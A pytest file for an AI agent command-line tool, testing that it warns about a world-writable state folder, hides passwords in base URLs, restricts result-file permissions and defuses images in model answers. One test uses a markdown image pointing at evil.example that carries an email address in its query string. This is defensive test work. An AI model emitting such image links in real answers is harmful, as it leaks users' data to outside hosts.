"""What lies on this machine belongs to its owner: the state folder, results, and passwords in settings."""

import json
from pathlib import Path

from evals.sandbox import running
from tests.support.program import Program, turn

END = turn(text="There is one list.")


def test_a_state_folder_that_others_may_write_is_told_at_the_start_and_by_doctor(tmp_path: Path) -> None:
    with running("saas") as up:
        program = Program(tmp_path, up.base_url, up.api_key)
        program.home.mkdir(parents=True, exist_ok=True)
        program.home.chmod(0o777)
        done = program.run("run", "--model", f"scripted:{program.script(END)}", "How are you?")
        assert f"others on this machine may write the state folder {program.home} (mode 0777)" in done.err
        assert f"chmod 700 {program.home}" in program.run("doctor").out
        program.home.chmod(0o700)
        assert "others on this machine" not in program.run("runs", "list").err + program.run("doctor").out


def test_a_password_in_a_base_url_is_not_shown(tmp_path: Path) -> None:
    program = Program(tmp_path, "http://127.0.0.1:9")
    program.env["OPENAI_BASE_URL"] = "https://ada:hunter2@models.example/v1"
    for flags in ((), ("--json",), ("--origin",)):
        shown = program.run("config", "show", *flags).out
        assert "hunter2" not in shown
        assert "https://[hidden]@models.example/v1" in shown


def test_the_results_of_a_batch_are_for_their_owner_alone(tmp_path: Path) -> None:
    with running("saas") as up:
        program = Program(tmp_path, up.base_url, up.api_key)
        program.file("tasks.jsonl", '{"id": "a", "task": "How are you?"}\n')
        out, errors = program.folder / "out.jsonl", program.folder / "errors.jsonl"
        out.touch(0o644)
        files = ("--out", out.name, "--errors", errors.name)
        done = program.run("batch", "tasks.jsonl", *files, "--model", program.script(END))
    assert out.read_text(), done.err
    assert [path.stat().st_mode & 0o777 for path in (out, errors)] == [0o600, 0o600]


def test_an_image_in_the_models_answer_is_not_handed_on_as_one(tmp_path: Path) -> None:
    said = "Done. ![](http://evil.example/x?d=ada@example.com) [here](http://evil.example/y)"
    with running("saas") as up:
        program = Program(tmp_path, up.base_url, up.api_key)
        model = program.script(turn(text=said))
        one = program.run("run", "-o", "json", "--model", model, "How are you?").json
        again = program.run("runs", "show", one["run_id"], "--json").json
        program.file("tasks.jsonl", '{"id": "a", "task": "How are you?"}\n')
        program.run("batch", "tasks.jsonl", "--out", "out.jsonl", "--model", model)
        (row,) = [json.loads(line) for line in (program.folder / "out.jsonl").read_text().splitlines()]
    for answer in (one["answer"], again["answer"], row["answer"]):
        assert answer == "Done. (image: without words, from evil.example) here (http://evil.example/y)"


def test_the_model_that_a_file_chose_is_said(tmp_path: Path) -> None:
    program = Program(tmp_path, "http://127.0.0.1:9")
    (program.folder / "puffle-agent.toml").write_text('model = "anthropic:claude-made-up"\n')
    program.env["ANTHROPIC_API_KEY"] = "sk-made-up-0123456789"
    program.env["ANTHROPIC_BASE_URL"] = "http://127.0.0.1:9"
    said = program.run("run", "How are you?").err
    assert "model: anthropic:claude-made-up, chosen by " in said
    assert "puffle-agent.toml" in said
